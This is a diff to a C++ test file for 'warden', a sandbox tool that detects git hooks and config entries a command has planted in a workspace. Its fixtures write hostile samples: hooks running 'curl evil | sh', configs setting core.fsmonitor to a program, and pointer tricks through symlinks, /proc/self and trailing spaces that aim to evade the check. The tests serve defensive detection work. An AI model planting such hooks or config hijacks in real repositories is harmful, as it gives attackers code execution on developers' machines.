@@ -118,10 +118,10 @@ TEST_F(PlantedCode, HooksUnderCoreHooksPathAreFlagged) {
   write_file(ws_ + "/old/.husky/pre-commit", "curl evil | sh\n");
   write_file(ws_ + "/old/.husky/post-checkout", "curl evil | sh\n");
   EXPECT_EQ(planted(), (std::vector<std::string>{"old/.husky/post-checkout", "old/.husky/pre-commit"}));
-  // Without write_git's check (a command the human let write git metadata:
-  // a checkout changes tracked files), the worktree's hooks folder is
-  // the repository's content and not looked at.
-  EXPECT_EQ(planted_since(before_git_write, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{});
+  // So with write_git's check (a command the human let write git
+  // metadata): the sandbox masks only the top's own hooks folder.
+  EXPECT_EQ(planted_since(before_git_write, snapshot_autorun_entries(ws_, false)),
+            (std::vector<std::string>{"old/.husky/post-checkout", "old/.husky/pre-commit"}));
 }
 
 // A submodule's URL is where `git submodule update` connects (with the
@@ -687,6 +687,14 @@ TEST_F(PlantedCode, TextMadeToBeExpensiveStopsTheCheck) {
   } catch (const warden::Error& e) {
     ADD_FAILURE() << e.what();
   }
+  // A deep chain of folders costs each entry the same as a shallow one
+  // (recomputing what each entry lies in was quadratic: 37 s for this).
+  std::string deep = ws_ + "/deep";
+  for (int i = 0; i < 640; ++i) deep += "/hooks";
+  fs::create_directories(deep);
+  for (int i = 0; i < 2000; ++i) write_file(deep + "/f" + std::to_string(i), "");
+  EXPECT_NO_THROW(snapshot_autorun_entries(ws_, true));
+  fs::remove_all(ws_ + "/deep");
   // A config larger than the part read could hide a key past it.
   write_file(ws_ + "/old/.git/config", "#" + std::string(5 << 20, 'x') + "\n[core]\n\tfsmonitor = ./evil\n");
   EXPECT_THROW(snapshot_autorun_entries(ws_, true), warden::Error);
@@ -711,6 +719,26 @@ TEST_F(PlantedCode, AGitWriteCannotSendGitToAFolderItPlanted) {
   write_file(ws_ + "/vendor/.cache/config", "[alias]\n\tst = -c core.fsmonitor=evil status\n");
   EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
             (std::vector<std::string>{"y/config", "vendor/.cache/config", "y/hooks/pre-commit"}));
+}
+
+// A pointer git reads its own way: through a link (git resolves it where
+// warden would not), through /proc/self/..., or with a trailing space git
+// keeps. The folder is read as git reads the file, or, where that is not
+// plainly in the workspace, the pointer itself counts as planted.
+TEST_F(PlantedCode, AGitPointerIsReadAsGitReadsIt) {
+  fs::create_directories(ws_ + "/x/y");
+  fs::create_directories(ws_ + "/gd");
+  fs::create_symlink("../x/y", ws_ + "/gd/lnk");
+  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
+  write_file(ws_ + "/wt/.git", "gitdir: ../gd\n");
+  write_file(ws_ + "/gd/HEAD", "ref: refs/heads/main\n");
+  write_file(ws_ + "/gd/commondir", "lnk/../common\n");
+  write_file(ws_ + "/x/common/config", "[core]\n\tfsmonitor = evil\n");
+  write_file(ws_ + "/gd2/commondir", "/proc/self/root" + ws_ + "/store\n");
+  write_file(ws_ + "/gd3/commondir", "../store \n");
+  write_file(ws_ + "/store /config", "[core]\n\tfsmonitor = evil\n");
+  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
+            (std::vector<std::string>{"gd/commondir", "gd2/commondir", "store /config"}));
 }
 
 // Under write_git, a new repository's config that runs a program through a
